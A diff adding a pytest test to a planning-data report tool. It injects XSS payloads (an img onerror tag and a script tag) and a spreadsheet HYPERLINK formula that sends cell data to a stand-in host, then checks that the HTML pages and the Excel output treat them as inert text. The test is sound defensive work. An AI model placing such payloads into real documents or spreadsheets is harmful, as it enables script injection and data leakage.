@@ -11,6 +11,7 @@ from pathlib import Path
 import openpyxl
 import pandas as pd
 import pytest
+from browser import CHROMIUM, SKIP_REASON, chromium
 from handmade import sample_corpus
 
 from sciplan_analysis import cli
@@ -176,3 +177,55 @@ def test_real_plan_csvs_need_no_neutralising():
         corpus = parse_manifest(RAW_DIR)
     for df in corpus.tables().values():
         assert neutralise_frame(df) is df
+
+
+# --------------------------------------------------------------------------- a hostile plan, in the browser
+
+HOSTILE_NAME = '<img src=x onerror="document.documentElement.dataset.pwned=1">县'
+HOSTILE_EN = "<script>document.documentElement.dataset.pwned=2</script> County"
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason=SKIP_REASON)
+def test_a_hostile_plan_name_stays_text_on_every_page(tmp_path):
+    """A plan whose names are markup, added and reported: every page shows them as text and
+    Chromium runs none of it; the workbook shows a formula-like field as text."""
+    import shutil
+
+    from sciplan_analysis.config import NOTEBOOKS_DIR
+    from sciplan_analysis.corpus import load_corpus
+    from sciplan_analysis.report.notebooks import build_report
+
+    raw, processed = tmp_path / "raw", tmp_path / "processed"
+    shutil.copytree(RAW_DIR, raw)
+    shutil.copy(Path(__file__).parent / "fixtures" / "layouts" / "circled.txt", raw / "hostile.txt")
+    with (raw / "plans.csv").open("a", encoding="utf-8", newline="") as f:
+        pd.DataFrame([{"plan_id": "hostile", "file": "hostile.txt", "name_zh": HOSTILE_NAME,
+                       "name_en": HOSTILE_EN, "admin_level": "county",
+                       "province": '=HYPERLINK("http://x/?"&A1,"c")', "parent": "重庆市",
+                       "status": "draft"}]).to_csv(f, header=False, index=False)
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        write_tables(load_corpus(raw, processed, refresh=True), processed, quiet=True)
+    notebooks = tmp_path / "notebooks"
+    notebooks.mkdir()
+    for name in ("01_corpus_overview.ipynb", "04_unit_workload.ipynb"):  # plan names in tables,
+        shutil.copy(NOTEBOOKS_DIR / name, notebooks / name)              # prose, charts, index
+    out = tmp_path / "reports"
+    build_report(notebooks, out, raw_dir=raw, processed_dir=processed, log=lambda line: None)
+
+    from bs4 import BeautifulSoup
+
+    for page in sorted(out.glob("*.html")):
+        run = chromium("--virtual-time-budget=5000", "--dump-dom", page.as_uri(),
+                       user_dir=tmp_path / "chrome")
+        dom = BeautifulSoup(run.stdout, "lxml")
+        assert dom.html is not None, f"{page.name} did not load: {run.stderr[-500:]}"
+        assert not dom.html.has_attr("data-pwned"), f"{page.name}: the plan's markup ran"
+        assert not dom.find_all(attrs={"onerror": True}), f"{page.name}: an <img onerror> from plan text"
+        assert not [s for s in dom.find_all("script") if "pwned" in (s.string or "")], page.name
+        assert "onerror" in dom.get_text() or page.name != "01_corpus_overview.html", \
+            "the hostile name should be shown, as text"
+    book = openpyxl.load_workbook(out / "sciplan_tables.xlsx")
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert all(c.data_type != "f" for c in cells)
